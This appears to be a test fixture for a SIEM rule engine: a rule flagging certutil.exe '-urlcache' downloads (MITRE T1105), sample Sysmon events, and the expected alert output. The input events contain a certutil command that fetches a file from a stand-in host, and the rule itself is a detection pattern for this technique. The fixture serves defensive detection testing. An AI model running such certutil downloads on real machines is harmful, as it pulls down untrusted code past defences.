# one signal for each entity that the record has; a missing field is unequal to anything
--- rule a.cse.yml
- id: MATCH-U1
  name: Certutil fetches
  expression: |
    metadata_vendor = 'Microsoft' AND lower(baseImage) LIKE '%\certutil.exe'
    AND lower(commandLine) MATCHES /-urlcache\b/ AND user_username != 'svc'
  scoreMapping: { type: constant, default: 6 }
  entitySelectors:
    - { entityType: _hostname, expression: device_hostname }
    - { entityType: _username, expression: user_username }
  summaryExpression: "{{device_hostname}} ran {{fields[\"CommandLine\"]}}"
  tags: ["_mitreAttackTechnique:T1105"]
--- input a.json
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"2026-11-24 08:00:00.000","Computer":"ws1","Image":"C:\\Windows\\System32\\CertUtil.exe","CommandLine":"certutil -URLCACHE -f http://a.example/x x","User":"ACME\\ann"}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"2026-11-24 08:00:01.000","Computer":"ws2","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://a.example/x x"}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"2026-11-24 08:00:02.000","Computer":"ws3","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcached","User":"ACME\\bob"}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"2026-11-24 08:00:03.000","Computer":"ws4","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache x","User":"svc"}
--- output ndjson
{"type":"signal","id":"7732edef2f44865abf8abf749c9de65a","rule_id":"MATCH-U1","rule_name":"Certutil fetches","severity":6,"time":"2026-11-24T08:00:00Z","entity_type":"_hostname","entity_value":"ws1","tags":["_mitreAttackTechnique:T1105"],"summary":"ws1 ran certutil -URLCACHE -f http://a.example/x x","source":{"category":"","file":"a.json","record":1},"matched":{"metadata_vendor":"Microsoft","baseImage":"C:\\Windows\\System32\\CertUtil.exe","commandLine":"certutil -URLCACHE -f http://a.example/x x"}}
{"type":"signal","id":"c82b855b4076f59a20c42522ec788c6a","rule_id":"MATCH-U1","rule_name":"Certutil fetches","severity":6,"time":"2026-11-24T08:00:00Z","entity_type":"_username","entity_value":"ACME\\ann","tags":["_mitreAttackTechnique:T1105"],"summary":"ws1 ran certutil -URLCACHE -f http://a.example/x x","source":{"category":"","file":"a.json","record":1},"matched":{"metadata_vendor":"Microsoft","baseImage":"C:\\Windows\\System32\\CertUtil.exe","commandLine":"certutil -URLCACHE -f http://a.example/x x"}}
{"type":"signal","id":"36a3e6499cf013536082f4a2bfce1002","rule_id":"MATCH-U1","rule_name":"Certutil fetches","severity":6,"time":"2026-11-24T08:00:01Z","entity_type":"_hostname","entity_value":"ws2","tags":["_mitreAttackTechnique:T1105"],"summary":"ws2 ran certutil -urlcache -f http://a.example/x x","source":{"category":"","file":"a.json","record":2},"matched":{"metadata_vendor":"Microsoft","baseImage":"C:\\Windows\\System32\\certutil.exe","commandLine":"certutil -urlcache -f http://a.example/x x"}}
